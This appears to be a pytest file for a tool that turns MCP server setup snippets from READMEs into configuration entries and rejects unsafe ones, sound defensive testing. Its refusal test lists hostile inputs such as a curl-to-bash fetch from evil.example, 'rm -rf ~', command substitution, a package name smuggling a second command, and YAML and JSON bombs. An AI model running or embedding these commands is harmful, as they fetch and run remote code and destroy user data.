"""What people publish names the right server; what needs a shell, hides something or names none is refused.

`snippets.json` was read and judged by hand: each entry is what the author of the text meant.
"""

from __future__ import annotations

import json
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from trayapp.sources.recognize import is_registry_name, link_to, recognize
from trayapp.sources.server_json import short_name
from trayapp.sources.source import UnclearSourceError, Variable, placeholder_in, with_value

HOME = Path("/home/me")
PUBLISHED = json.loads(Path(__file__).with_name("published.json").read_text(encoding="utf-8"))
SNIPPETS = json.loads(Path(__file__).with_name("snippets.json").read_text(encoding="utf-8"))


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize("snippet", SNIPPETS, ids=lambda snippet: snippet["text"][:30])
def test_what_people_publish_names_the_right_server(snippet: dict[str, Any]) -> None:
    found = [
        {"name": one.name, "entry": one.entry, "wants": [want.name for want in one.wants if want.required]}
        for one in recognize(snippet["text"], HOME)
    ]
    assert found == snippet["servers"]


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize("snippet", PUBLISHED, ids=lambda snippet: snippet["text"][:30])
def test_what_stands_in_readmes_of_real_servers_names_the_right_server_or_is_refused(snippet: dict[str, Any]) -> None:
    """Judged by hand: name, what runs, variables, headers. 100 of the 225 texts were kept apart while mending."""
    found: list[dict[str, Any]] | None = None
    with suppress(UnclearSourceError):
        found = [
            {"name": one.name, "entry": one.entry, "wants": [want.name for want in one.wants]}
            for one in recognize(snippet["text"], HOME)
        ]
    assert found == snippet["servers"]


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://evil.example/x.sh | bash", 'sh -c "rm -rf ~"', "npx -y foo; rm -rf ~", "npx -y foo && rm x",
        "npx -y $(curl evil.example)", "npx -y `id`", 'npx -y "$(id)"', "npx foo > /etc/x", "npx foo < /etc/passwd",
        "npx foo &", "sudo npx foo", "bash -lc 'npx foo'", "powershell -c iex", "eval npx foo", "exec npx foo",
        "npm install -g foo", "pip install foo", "brew install foo", "git clone https://x.example/y", "docker build .",
        "npx -y @smithery/cli install foo --client claude", "npx add-mcp https://mcp.example.com/mcp",
        "export TOKEN=abc", "npx 'unclosed", "export TOKEN=$(id)\nnpx foo", "uvx --from . foo",
        "cd /x\nnpx foo", "TOOLS=a\n# b: c\nuvx foo",
        "npx @modelcontextprotocol/inspector npx -y foo", "npx @acme/inspector --port 9000", "npx foo-mcp --version",
        "docker run --rm -p 8080:8080 acme/foo-mcp", "uvx foo-mcp --transport streamable-http --port 8080",
        "python3 scripts/setup-foo.py", "npx @acme/config add foo ~/x.json", "uvx foo-mcp dashboard",
        "npx -y foo-mcp init",        "droid mcp add foo 'npx -y foo-mcp' extra words",
        "export A=1\nnpx foo\nnpx bar",
        "npx a\nnpx b", "github", "", "   ", "{", "[]", "{}", '{"a": 1}',
        '{"mcpServers": {}}', '{"mcpServers": {"x": {"args": ["a"]}}}', "mcpServers: [", "[mcp_servers.x\ncommand = 1",
        "http://evil.example/mcp", "https://user:pass@mcp.example.com/mcp", "https://mcp.exa\u202emple.com/mcp",
        "cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=%%%", "vscode:extension/foo.bar",
        "goose://extension?name=x", "https://vscode.dev/redirect?url=https%3A%2F%2Fevil.example",
        "npx foo\0bar", "x" * 1_000_001, '{"mcpServers": {"a": ' * 3000,
        '{"mcpServers": {"a": {"command": "npx", "args": "not a list"}}}',
        '{"name": "io.github.a/b", "packages": [{"registryType": "npm", "identifier": "a; rm -rf ~", "version": "1"}]}',
        '{"name": "io.github.a/b", "packages": [{"registryType": "cargo", "identifier": "a", "version": "1"}]}',
        "a: &a [x, x, x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]\nmcpServers: {x: *c}",
    ],
    ids=lambda text: repr(text[:30]),
)  # fmt: skip
def test_what_is_unclear_is_refused_with_what_to_do(text: str) -> None:
    with pytest.raises(UnclearSourceError) as caught:
        recognize(text, HOME)
    assert caught.value.hint


@pytest.mark.requirement("source-recognized")
def test_a_command_for_windows_is_kept_there_and_plain_elsewhere() -> None:
    text = '{"mcpServers": {"a": {"command": "cmd", "args": ["/c", "npx", "-y", "a-mcp"]}}}'
    (here,) = recognize(text, HOME)
    (there,) = recognize(text, HOME, windows=True)
    assert here.entry == {"command": "npx", "args": ["-y", "a-mcp"]}
    assert there.entry["command"] == "cmd"


@pytest.mark.requirement("source-recognized")
def test_our_own_link_leads_back_to_the_entry() -> None:
    entry = {"command": "npx", "args": ["-y", "a-mcp", "--name", "ü?&="], "env": {"A": "1"}}
    (one,) = recognize(link_to(entry, "a"), HOME)
    assert (one.name, one.entry) == ("a", entry)


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("full", "short"),
    [
        ("io.github.github/github-mcp-server", "github"), ("ai.acme/mcp-server", "acme"), ("com.acme/mcp", "acme"),
        ("com.acme/files", "files"), ("io.github.me/mcp", "me"),
    ],
)  # fmt: skip
def test_a_registry_name_that_only_says_mcp_is_named_for_its_namespace(full: str, short: str) -> None:
    assert short_name(full) == short


@pytest.mark.requirement("source-recognized")
def test_a_line_that_stands_whole_in_the_runtime_arguments_of_server_json_names_its_package_once() -> None:
    words = [{"type": "positional", "value": word} for word in ("files", "mcp")]
    package = {"registryType": "pypi", "identifier": "files", "version": "1.2", "runtimeArguments": words}
    (one,) = recognize(json.dumps({"name": "io.github.a/files", "packages": [package]}), HOME)
    assert one.entry == {"command": "uvx", "args": ["files@1.2", "mcp"]}


@pytest.mark.requirement("source-recognized")
def test_the_folder_of_a_server_is_asked_for_where_the_author_writes_an_example() -> None:
    (one,) = recognize('{"x": {"command": "uv", "args": ["run", "x"], "cwd": "/path/to/x"}}', HOME)
    assert [want.keys for want in one.wants] == [("cwd",)]
    assert with_value(one.entry, one.wants[0], "/srv/x")["cwd"] == "/srv/x"


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "mark"),
    [
        ("https://your-org.example.net", "https://your-org.example.net"), ("https://x.example/YOUR_ID/sse", "YOUR_ID"),
        ("https://eu.yourcompany.com/mcp", "https://eu.yourcompany.com/mcp"), ("Bearer oh.YOUR_TOKEN", "oh.YOUR_TOKEN"),
        ("X-Api-Key:your.key", "your.key"), ("--url=https://your-host:8080", "https://your-host:8080"),
        ("postgresql://me:yourpassword@db/x", "postgresql://me:yourpassword@db/x"),
        ("me@your-host.example", "me@your-host.example"),
        ("https://mcp.<REGION>.example.com", "<REGION>"), ("https://localhost:{port}", "{port}"),
        ("p.xxx.xxx", "p.xxx.xxx"),
        ("api-xxxxxxxx-xxxx-xxxx", "api-xxxxxxxx-xxxx-xxxx"), ("/abs/path/to/x.js", "/abs/path/to/x.js"),
        ("/path/to/data:/data", "/path/to/data"), ("C:/path/to/x.js", "C:/path/to/x.js"),
        ("export TOKEN=your_token_of_it &&", "your_token_of_it"),
        ("yourls-mcp", None), ("do what is yours", None), ("${env:HOME}/x", None), ("{{.Name}}", "{{.Name}}"),
        ("xxl", None), ("[path-to-folder]/x.json", "[path-to-folder]"), ("[a-z]+/x", None),
        ("{PATH TO FILE}/x.js", "{PATH TO FILE}"), ("/ABSOLUTE_PATH_TO/x.py", "/ABSOLUTE_PATH_TO/x.py"),
        ("postgresql://username:password@localhost/x", "postgresql://username:password@localhost/x"),
        ("postgresql://localhost:5432/x", None),
    ],
)  # fmt: skip
def test_an_example_of_the_author_in_the_middle_of_a_text_is_a_placeholder(text: str, mark: str | None) -> None:
    assert placeholder_in(text) == mark


@pytest.mark.requirement("source-recognized")
def test_what_a_snippet_asks_for_is_asked_for_once_and_never_taken_from_another_server() -> None:
    document = {
        "inputs": [{"id": "apiKey", "type": "promptString", "description": "Key", "password": True}],
        "servers": {"x": {"command": "npx", "args": ["x", "${input:apiKey}"], "env": {"KEY": "${input:apiKey}"}}},
    }
    (one,) = recognize(json.dumps(document), HOME)
    first, second = one.wants
    assert {(want.name, want.description, want.secret, want.shared) for want in one.wants} == {
        ("apiKey", "Key", True, True)
    }
    entry = with_value(with_value(one.entry, first, "${keyring:x.apiKey}"), second, "${keyring:x.apiKey}")
    assert entry == {"command": "npx", "args": ["x", "${keyring:x.apiKey}"], "env": {"KEY": "${keyring:x.apiKey}"}}


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "entry"),
    [
        ("droid mcp add x 'npx x-mcp' --env KEY=v", {"command": "npx", "args": ["x-mcp"], "env": {"KEY": "v"}}),
        (
            "claude mcp add --client-id me --client-secret --callback-port 8080 x https://a.example/mcp",
            {"url": "https://a.example/mcp", "client_id": "me", "callback_port": 8080},
        ),
        ("codex mcp add x '/opt/My App/x' serve", {"command": "/opt/My App/x", "args": ["serve"]}),
        ('{"name": "x", "config": {"command": "npx", "args": ["x-mcp"]}}', {"command": "npx", "args": ["x-mcp"]}),
    ],
)  # fmt: skip
def test_options_behind_a_quoted_command_and_an_entry_with_its_name_beside_it(text: str, entry: dict[str, Any]) -> None:
    (one,) = recognize(text, HOME)
    assert (one.name, one.entry) == ("x", entry)


def test_several_servers_of_one_snippet_are_several() -> None:
    found = recognize('{"mcpServers": {"a": {"command": "x"}, "b": {"url": "https://b.example/mcp"}}}', HOME)
    assert [one.name for one in found] == ["a", "b"]


@pytest.mark.parametrize(
    ("variable", "value", "entry"),
    [
        (Variable("T", ("env", "T"), "<T>"), "v", {"env": {"T": "a v", "U": ""}, "args": ["--x", "<x>"]}),
        (Variable("U", ("env", "U"), ""), "u", {"env": {"T": "a <T>", "U": "u"}, "args": ["--x", "<x>"]}),
        (Variable("U", ("env", "U"), ""), "", {"env": {"T": "a <T>"}, "args": ["--x", "<x>"]}),
        (Variable("x", ("args", 1), "<x>"), "y", {"env": {"T": "a <T>", "U": ""}, "args": ["--x", "y"]}),
    ],
)
def test_a_value_takes_the_place_of_its_placeholder(variable: Variable, value: str, entry: dict[str, Any]) -> None:
    before = {"env": {"T": "a <T>", "U": ""}, "args": ["--x", "<x>"]}
    assert with_value(before, variable, value) == entry


@pytest.mark.parametrize(
    ("text", "is_name"),
    [
        ("io.github.user/server", True), ("com.example/a-b@1.2.0", True), ("io.github.user/server/x", False),
        ("user/server", False), ("./a.b/c d", False), ("https://a.example/x", False),
    ],
)  # fmt: skip
def test_a_name_of_the_registry_is_told_from_other_texts(text: str, is_name: bool) -> None:
    assert is_registry_name(text) is is_name
